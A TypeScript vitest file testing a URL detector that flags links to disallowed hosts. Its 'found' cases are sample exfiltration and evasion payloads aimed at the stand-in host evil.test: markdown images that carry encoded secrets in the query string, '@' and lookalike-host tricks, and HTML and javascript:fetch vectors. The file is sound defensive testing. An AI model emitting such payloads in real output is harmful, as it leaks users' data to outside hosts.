import { describe, expect, it } from 'vitest'
import { detectorLaws } from './laws/detector-laws.ts'
import { readHosts, type HostList } from './url-hosts.ts'
import { urlDetector } from './urls.ts'

function hosts(...names: readonly string[]): HostList {
  const read = readHosts(names)
  if (!read.ok) throw new Error(read.problem)
  return read.list
}

detectorLaws(
  urlDetector({
    allow: hosts('example.com', '*.example.org', 'bücher.example', 'box.internal:8443', '10.0.0.7'),
    deny: undefined,
  }),
  {
    found: [
      'see «https://evil.test/a?q=1», please',
      '![x](«https://evil.test/log?d=c2VjcmV0»)',
      '[x](«//evil.test/a») and [y]: «//evil.test/b»',
      '<img src="«//evil.test/p.png»">',
      'as «https://example.com@evil.test/» or «https://example.com.evil.test/»',
      'at «https://example.org/», which lies above what is allowed',
      'JSON «https:\\/\\/evil.test\\/a»',
      'without strokes «https:evil.test», and with one «http:/evil.test/»',
      'go to «www.evil.test» or «WWW.EVIL.TEST/x»',
      'by number «http://0x7f.1/» and «http://[2001:db8::1]:8080/»',
      'wide «https://ｅｖｉｌ.test/»',
      'at «https://box.internal/» and «https://box.internal:9000/x»',
      'db «postgres://app@db.internal:5432/x»',
      'broken «https://[nobody/x»',
      'tps:\\/\\«https:/see»',
      '![x](«https://example.com()@evil.test/?d=c2Vj»)',
      '![x](<«https://example.com(@evil.test/?d=c2Vj»>)',
      "![x](«https://example.com'@evil.test/?d=c2Vj»)",
      '![x](«https://example.com|@evil.test/?d=c2Vj»)',
      '![x](«https://example.com`@evil.test/?d=c2Vj»)',
      '![x](«https://example.com:"@evil.test/?d=c2Vj»)',
      '![x](«https://example.com\\@evil.test/?d=c2Vj»)',
      '<img src="«https://example.com\'@evil.test/x»">',
      '<img src="«https://example.com<@evil.test/x»">',
      '<img src="«https://example.com @evil.test/x»">',
      '<img src="«https://example.com\'.evil.test/x»">',
      'at «https://example.com(@evil.test/x» too',
      '<img src="https:\n«//evil.test/x»">',
      '<img srcset="«//evil.test/x» 1x, «//evil.test/y» 2x">',
      '<video poster=«//evil.test/x»>, <object data="«//evil.test/y»">',
      '<p style="background:url(«//evil.test/x»)">',
      '<meta http-equiv=refresh content="0;url=«//evil.test/x»">',
      `<a href="javascript:fetch('«//evil.test/»')">`,
    ],
    plain: [
      'https://example.com/a/b?c=d and HTTPS://EXAMPLE.COM:8080.',
      'http://a.example.org and https://x.y.example.org/z',
      'https://xn--bcher-kva.example/ and https://BÜCHER.example/',
      'https://box.internal:8443/x',
      'http://10.0.0.7/ and http://012.0.0.07/',
      'https://user:word@example.com./x',
      'file:///etc/hosts and mailto:ada@evil.test',
      'the ratio is 3:4, note: this // is a comment',
      'std::vector and C:/files',
      'see (https://example.com) or ask ada@evil.test, or "https://example.com", ada@evil.test',
      '<a href="https://example.com">ada@evil.test</a> and {"a":"https://example.com","b":"ada@evil.test"}',
      '|https://example.com|ada@evil.test| and `https://example.com`|ada@evil.test',
      "https://example.com's page, <https://example.com>@ada, a=1 // no link, '// nor this'",
    ],
  },
)

detectorLaws(urlDetector({ allow: undefined, deny: hosts('*.evil.test', 'evil.test') }), {
  found: ['at «http://a.evil.test»', '«https://EVIL.test./»'],
  plain: ['https://evil.test.example.com/', 'https://example.com/evil.test', 'https://[nobody/x'],
})

describe('hosts of a rule', () => {
  it.each(['', 'https://example.com', 'example.com/x', '*', 'a b', '*.', 'ada@example.com'])('%j is none', (name) => {
    expect(readHosts([name]).ok).toBe(false)
  })

  it('hold nothing back of a URL whose host is allowed, and all of one whose host is not told yet', () => {
    const detector = urlDetector({ allow: hosts('example.com'), deny: undefined })
    const live = (text: string) => text.length - detector.liveFrom(text)
    expect(live('see https://example.com/')).toBe(0)
    expect(live('see https://example.com')).toBe(19)
    expect(live('see https://example.com.evil')).toBe(24)
    expect(live('no link here')).toBe(4)
  })

  it('take linear time on what is nearly a URL, over and over', () => {
    const detector = urlDetector({ allow: hosts('example.com'), deny: undefined })
    for (const unit of ['http:', 'a:', 'www.', '](//', 'https://a', 'src=', '\\/'])
      expect(detector.find(unit.repeat(20_000)).length).toBeGreaterThanOrEqual(0)
  })
})
